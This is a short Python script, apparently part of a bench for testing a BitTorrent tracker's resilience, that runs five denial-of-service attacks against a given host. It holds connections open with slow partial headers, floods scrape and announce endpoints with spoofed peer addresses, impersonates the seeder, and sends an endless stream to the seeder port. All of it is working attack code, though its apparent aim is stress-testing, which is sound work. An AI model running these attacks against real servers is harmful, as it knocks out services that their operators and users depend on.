# What one unprivileged machine does to a head, for the bench of attacks:
# attack.py WHAT HEAD PORT SEEDER_PORT INFO_HASH
import http.client, random, resource, socket, sys, threading, time

what, head, port, seeder, info = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), bytes.fromhex(sys.argv[5])
quoted = "".join("%%%02x" % byte for byte in info)


def forever(attack):
    while True:
        try:
            attack()
        except (OSError, http.client.HTTPException):
            time.sleep(0.01)


def half_headers():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

    def one():
        connection = socket.create_connection((head, port), timeout=20)
        connection.send(b"GET /luna?step=boot HTTP/1.1\r\nHost: x\r\nX-A: ")
        connection.settimeout(0)
        return connection

    held = [one() for _ in range(2000)]
    while True:
        for at, connection in enumerate(held):
            try:
                connection.send(b"a")
            except OSError:
                held[at] = one()
        time.sleep(0.2)


def asking(path):
    connection = http.client.HTTPConnection(head, port, timeout=20)
    while True:
        connection.request("GET", path())
        connection.getresponse().read()


def announce(peer, more):
    return lambda: "/announce?info_hash=%s&peer_id=%s&port=%d&left=1&event=started&numwant=200%s" % (
        quoted,
        peer,
        random.randrange(1024, 65536),
        more(),
    )


def endless():
    connection = socket.create_connection((head, seeder), timeout=20)
    connection.send(b"\x13BitTorrent protocol" + bytes(8) + info + b"-XX0000-%012d" % random.randrange(10**9))
    connection.recv(68)
    connection.send(b"\x7f\xff\xff\xff")
    block = bytes(1 << 20)
    while True:
        connection.send(block)


somebody = lambda: "&ip=10.30.%d.%d" % (random.randrange(256), random.randrange(256))
attacks = {
    "half": (1, half_headers),
    "scrape": (16, lambda: asking(lambda: "/scrape?info_hash=" + quoted)),
    "crowd": (4, lambda: asking(announce("a" * 20, somebody))),
    "seeder": (4, lambda: asking(announce("luna" * 5, lambda: "&ip=10.30.9.9"))),
    "endless": (4, endless),
}
threads, attack = attacks[what]
for _ in range(threads - 1):
    threading.Thread(target=forever, args=(attack,), daemon=True).start()
forever(attack)
